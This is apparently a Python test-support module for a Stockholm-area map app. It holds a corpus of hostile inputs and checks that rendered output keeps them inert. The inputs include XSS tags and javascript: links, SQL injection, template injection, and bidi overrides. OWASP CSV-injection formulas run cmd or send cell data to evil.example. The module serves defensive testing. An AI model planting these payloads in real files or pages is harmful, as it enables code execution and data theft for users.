"""Hostile text for the reliability tests: one shared corpus, the data that holds it, checks.

`PAYLOADS` is every hostile string, by the medium it attacks: HTML and templates, Streamlit's
Markdown and its extensions (images, links, maths, colours, icons, emoji, autolinks, setext
headings, indented code), matplotlib's mathtext, Plotly's entities and bidi controls.
`write_hostile_data` copies geodata/ and writes them into one initiative, its place and one of
its committees; `HOSTILE_QUERY` is the search text for ``?q=``. `Markup` parses HTML as a browser
would and says what it holds; `assert_inert_markdown` checks that Markdown shows text from the
data as text, and `assert_bidi_closed` that no bidi control is left open.
"""

from __future__ import annotations

import json
import re
import shutil
from collections import Counter
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import yaml

from soderort import paths
from soderort.inert import WORD_JOINER

# What an attacker (or a careless paste) could put into the data's free text. Each must reach the
# reader as the very characters typed: never run, never rendered as markup, never a link.
HOSTILE_SCRIPT = "<script>alert(1)</script>"
HOSTILE_IMG = "<img src=x onerror=alert(1)>"
HOSTILE_LINK = "[x](javascript:alert(1))"
HOSTILE_BREAKOUT = '"><b>fet</b>'
HOSTILE_LONG_WORD = "Långt" + "ord" * 165  # 500 characters without a space
HOSTILE_RTL = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: turns the rest of a line around
HOSTILE_SQL = "'; DROP TABLE initiativ; -- ../../etc/passwd %00 {{7*7}} ${7*7}"
# Jinja, which folium renders with: evaluated it would show "49"; {% raw %} alone breaks a template.
HOSTILE_TEMPLATE = "{{ 7*7 }} {% raw %} {# x"

# Streamlit's Markdown and its extensions. The hosts are .example: a request to one is a leak.
HOSTILE_IMAGE = "![](http://bilder.example/x.png)"  # the browser would fetch an outside image
HOSTILE_LOGIN = "[logga in](http://phish.example/login)"
HOSTILE_MATH = "$x^2$"
HOSTILE_BOLD = "**fet**"
HOSTILE_COLOUR = ":red[röd]"
HOSTILE_ICON = ":material/lock:"
HOSTILE_EMOJI = ":smile:"
HOSTILE_URL = "http://phish.example/login"
HOSTILE_WWW = "www.phish.example"
HOSTILE_EMAIL = "hjalp@phish.example"
HOSTILE_SETEXT = "Rubrik\n==="  # a line of = under a line makes it a heading
HOSTILE_INDENT = "\n\n    kod"  # four spaces after a blank line make a code block
HOSTILE_TYPOGRAPHY = "a -- b -> c <= d"
# matplotlib's mathtext: the first fails every PDF with no message, the second draws a root sign.
HOSTILE_MATHTEXT = "$a_$"
HOSTILE_ROOT = "$\\sqrt{x^2}$"
# Plotly knows no &quot;: html.escape's quotes show as written.
HOSTILE_QUOTES = "citat \"så\" och 'så'"
# The search text for ?q=: a live link and an icon in large type on the app's own pages.
HOSTILE_QUERY = f"{HOSTILE_URL} {HOSTILE_ICON}"

PAYLOADS: dict[str, str] = {
    "script": HOSTILE_SCRIPT,
    "img": HOSTILE_IMG,
    "link": HOSTILE_LINK,
    "breakout": HOSTILE_BREAKOUT,
    "long_word": HOSTILE_LONG_WORD,
    "rtl": HOSTILE_RTL,
    "sql": HOSTILE_SQL,
    "template": HOSTILE_TEMPLATE,
    "image": HOSTILE_IMAGE,
    "login": HOSTILE_LOGIN,
    "math": HOSTILE_MATH,
    "bold": HOSTILE_BOLD,
    "colour": HOSTILE_COLOUR,
    "icon": HOSTILE_ICON,
    "emoji": HOSTILE_EMOJI,
    "url": HOSTILE_URL,
    "www": HOSTILE_WWW,
    "email": HOSTILE_EMAIL,
    "setext": HOSTILE_SETEXT,
    "indent": HOSTILE_INDENT,
    "typography": HOSTILE_TYPOGRAPHY,
    "mathtext": HOSTILE_MATHTEXT,
    "root": HOSTILE_ROOT,
    "quotes": HOSTILE_QUOTES,
}
# Outside hosts named by the payloads: the browser may never ask them for anything.
OUTSIDE_HOSTS = ("bilder.example", "phish.example")


@dataclass(frozen=True)
class HostileData:
    """A copy of geodata/ with hostile text in one initiative and one place.

    Attributes
    ----------
    folder : Path
        The data folder (point ``SODERORT_DATA_DIR`` at it).
    initiative_id : str
        The initiative whose texts were replaced.
    place_id : str
        Its place, whose Swedish and English names were replaced.
    committee_id : str
        One of its committees (a collaborator), whose name was replaced.
    committee_name : str
        The exact name written.
    texts : dict of str to str
        Field of the initiative -> the exact text written there.
    place_names : dict of str to str
        ``"name"`` and ``"name_en"`` -> the exact place names written.
    payloads : tuple of str
        Every hostile string, each of which occurs in `texts`.
    """

    folder: Path
    initiative_id: str
    place_id: str
    committee_id: str
    committee_name: str
    texts: dict[str, str]
    place_names: dict[str, str]
    payloads: tuple[str, ...]


def write_hostile_data(folder: Path) -> HostileData:
    """Copy geodata/ to `folder` and write hostile text into Miljöteknik Högdalen, Högdalen and
    Exploateringsnämnden."""
    shutil.copytree(paths.GEODATA_DIR, folder)
    initiative_id, place_id = "miljoteknik-hogdalen", "hogdalen"
    committee_id = "exploateringsnamnden"
    texts = {
        "rubrik": (
            f"Miljöteknik {HOSTILE_SCRIPT} Högdalen {HOSTILE_BOLD} {HOSTILE_ICON} {HOSTILE_QUOTES}"
        ),
        "uppdrag": (
            f"Utveckling {HOSTILE_IMG} och {HOSTILE_LINK} av {HOSTILE_TEMPLATE} området "
            f"{HOSTILE_IMAGE} {HOSTILE_LOGIN} {HOSTILE_MATH} {HOSTILE_URL} {HOSTILE_WWW} "
            f"{HOSTILE_EMAIL} {HOSTILE_EMOJI} {HOSTILE_COLOUR}"
        ),
        "uppdragsgivare": HOSTILE_SQL,
        "forvantat_resultat": (
            f"{HOSTILE_BREAKOUT} {HOSTILE_LONG_WORD} slut\n{HOSTILE_SETEXT}{HOSTILE_INDENT} "
            f"{HOSTILE_TYPOGRAPHY}"
        ),
        "tidplan": f"{HOSTILE_RTL}Klart 2020 tfel-ot-thgir",
        "ansvarig_namnd": f"Stockholm Business Region {HOSTILE_SCRIPT} {HOSTILE_URL}",
    }
    place_names = {
        "name": (
            # Names are at most model.MAX_NAME_CHARS long: the link and template are in the texts.
            f"Högdalen {HOSTILE_SCRIPT} {HOSTILE_MATHTEXT} {HOSTILE_ROOT}"
        ),
        "name_en": f"Hogdalen {HOSTILE_IMG} {HOSTILE_MATHTEXT} {HOSTILE_ICON}",
    }
    committee_name = (
        f"Nämnd {HOSTILE_IMAGE} {HOSTILE_LOGIN} {HOSTILE_MATH} {HOSTILE_COLOUR} {HOSTILE_RTL}nmän"
    )
    plan_file = folder / paths.ACTION_PLAN_FILE.name
    plan = yaml.safe_load(plan_file.read_text(encoding="utf-8"))
    record = next(item for item in plan["initiatives"] if item["id"] == initiative_id)
    record.update(texts)
    record["notes"] = [f"Anteckning {HOSTILE_IMG}"]
    plan_file.write_text(
        yaml.safe_dump(plan, allow_unicode=True, sort_keys=False, width=100), encoding="utf-8"
    )
    places_file = folder / paths.PLACES_FILE.name
    places = json.loads(places_file.read_text(encoding="utf-8"))
    feature = next(f for f in places["features"] if f["properties"]["id"] == place_id)
    feature["properties"].update(place_names)
    places_file.write_text(json.dumps(places, ensure_ascii=False), encoding="utf-8")
    committees_file = folder / paths.COMMITTEES_FILE.name
    committees = yaml.safe_load(committees_file.read_text(encoding="utf-8"))
    body = next(item for item in committees["committees"] if item["id"] == committee_id)
    body["name"] = committee_name
    committees_file.write_text(
        yaml.safe_dump(committees, allow_unicode=True, sort_keys=False, width=100),
        encoding="utf-8",
    )
    written = "\n".join([*texts.values(), *place_names.values(), committee_name])
    payloads = tuple(payload for payload in PAYLOADS.values() if payload in written)
    assert len(payloads) == len(PAYLOADS), set(PAYLOADS.values()) - set(payloads)
    return HostileData(
        folder, initiative_id, place_id, committee_id, committee_name, texts, place_names, payloads
    )


# Elements a fragment of our HTML may never hold, and URL schemes that run code.
FORBIDDEN_TAGS = {"script", "img", "iframe", "object", "embed", "svg", "style", "link", "meta"}
CODE_SCHEMES = ("javascript:", "data:", "vbscript:")


class Markup(HTMLParser):
    """The elements, attribute names and text of an HTML fragment, as a browser would parse it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: Counter[tuple[str, str]] = Counter()
        self.urls: list[str] = []
        self.chunks: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        for name, value in attrs:
            self.attributes[(tag, name)] += 1
            if name in ("href", "src", "action", "formaction") and value is not None:
                self.urls.append(value)

    def handle_data(self, data: str) -> None:
        self.chunks.append(data)

    @property
    def text(self) -> str:
        return "".join(self.chunks)

    def assert_harmless(self) -> None:
        assert not FORBIDDEN_TAGS & set(self.tags), self.tags
        handlers = [name for _tag, name in self.attributes if name.startswith("on")]
        assert not handlers, handlers
        for url in self.urls:
            assert not url.strip().lower().startswith(CODE_SCHEMES), url


def fragments(document: str) -> list[str]:
    """Every HTML fragment a rendered folium map hands to Leaflet as a JavaScript string.

    Tooltips, popups and label icons reach Leaflet as JSON string literals, where "<" may be
    written as \\u003c; these are decoded first. A string counts as HTML when it starts with "<"
    (GeoJSON properties, which Leaflet never puts into the page as HTML, do not).
    """
    found = []
    for literal in re.findall(r'"(?:[^"\\\n]|\\.)*"', document):
        try:
            value = json.loads(literal)
        except json.JSONDecodeError:
            continue
        if isinstance(value, str) and value.lstrip().startswith("<"):
            found.append(value)
    return found


# Markup the app writes itself in Markdown (presentation mode's part label and exit link).
OWN_MARKDOWN_TAGS = {"span", "a", "div", "br", "b", "strong", "em", "i"}
_ESCAPED = re.compile(r"\\.", re.S)


# The character references `soderort.inert.markdown` writes for a line's first space or tab.
_CHARACTER_REFERENCES = {"&#32;": " ", "&#9;": "\t"}


def resolve_markdown(markdown: str) -> str:
    """The text nodes of escaped Markdown as the parser leaves them: escapes and character
    references resolved, word joiners kept (Streamlit's front end rewrites these nodes)."""
    text = re.sub(r"\\(.)", r"\1", markdown, flags=re.S)
    for reference, char in _CHARACTER_REFERENCES.items():
        text = text.replace(reference, char)
    return text


def unescape_markdown(markdown: str) -> str:
    """The text a reader sees of escaped Markdown (escapes made literal, word joiners unseen)."""
    return resolve_markdown(markdown).replace(WORD_JOINER, "")


def assert_inert_markdown(markdown: str) -> None:
    """Check that Markdown holds no markup but the app's own.

    A backslash-escaped character is text to CommonMark; masking each escape leaves only what
    could start markup: an HTML tag (only the app's own tags, harmless), a link or autolink to
    a code scheme.
    """
    masked = _ESCAPED.sub("\x00\x00", markdown)
    markup = Markup(masked)
    markup.assert_harmless()
    assert set(markup.tags) <= OWN_MARKDOWN_TAGS, (markup.tags, markdown[:300])
    for url in re.findall(r"\]\(\s*<?([^)\s>]*)", masked):
        assert not url.lower().startswith(CODE_SCHEMES), url
        assert not any(host in url for host in OUTSIDE_HOSTS), url
    assert not re.search(r"<\s*(javascript|data|vbscript):", masked, re.IGNORECASE), markdown
    # Maths, setext headings and indented code: the app's own Markdown uses none of them.
    assert "$" not in masked, markdown
    assert not re.search(r"\n[ ]{0,3}(=+|-+)[ \t]*(\n|$)", masked), markdown
    assert not re.search(r"(^|\n)[ \t]*\n( {4}|\t)", masked), markdown
    # What Streamlit's front end rewrites in the text nodes after parsing.
    nodes = resolve_markdown(markdown)
    assert not re.search(r"(?i)(https?://|www\.)[^\s]*\.example", nodes), markdown
    assert not re.search(r"[-.\w+]@[-\w]+\.example", nodes), markdown
    assert not re.search(r":(material/\w+|[\w+-]+):", nodes), markdown
    assert_bidi_closed(markdown)


# Bidi controls that open a run (LRE RLE LRO RLO; LRI RLI FSI) and what closes each.
_BIDI_OPENERS = {
    **dict.fromkeys("\u202a\u202b\u202d\u202e", "\u202c"),
    **dict.fromkeys("\u2066\u2067\u2068", "\u2069"),
}


def assert_bidi_closed(text: str) -> None:
    """Check that every bidi control `text` opens is closed within it, so that it cannot turn
    the text after it around (the app's own, or another string's)."""
    open_runs: list[str] = []
    for char in text:
        if char in _BIDI_OPENERS:
            open_runs.append(_BIDI_OPENERS[char])
        elif open_runs and char == open_runs[-1]:
            open_runs.pop()
        elif char == "\u2069" and "\u2069" in open_runs:
            # A PDI closes the embeddings inside its isolate too.
            while open_runs.pop() != "\u2069":
                pass
    assert not open_runs, ([hex(ord(c)) for c in open_runs], text[:200])


# ------------------------------------------------------------------------ spreadsheet formulas

# What a spreadsheet could run as a formula: OWASP's "CSV Injection" examples, and the ways around
# a check of the first character that were found here (a list separator inside the text, a line
# break, a control character, white space or a quote before the formula, full-width signs).
FORMULA_PAYLOADS: tuple[str, ...] = (
    # OWASP, https://owasp.org/www-community/attacks/CSV_Injection
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet!A2:E2")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n-3+3+cmd|' /C calc'!D2",
    ";-3+3+cmd|' /C calc'!D2",
    # Inside the text, where another list separator would start a cell
    "Utveckling av området,=cmd|' /C calc'!A0,i Söderort",
    "Utveckling av området;=cmd|' /C calc'!A0;i Söderort",
    "Utveckling av området\t=cmd|' /C calc'!A0\ti Söderort",
    "Rad ett\n=1+1",
    "Rad ett\r\n@SUM(A1:A2)",
    'Ett, "=1+1"',
    # Before the formula: control characters, white space, quotes
    "\x01=1+1",
    "\x00\x1f=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "\" '=1+1",
    "\u201c=1+1",
    # Full-width signs
    "\uff1d1+1",
    "\uff0b1+1",
)
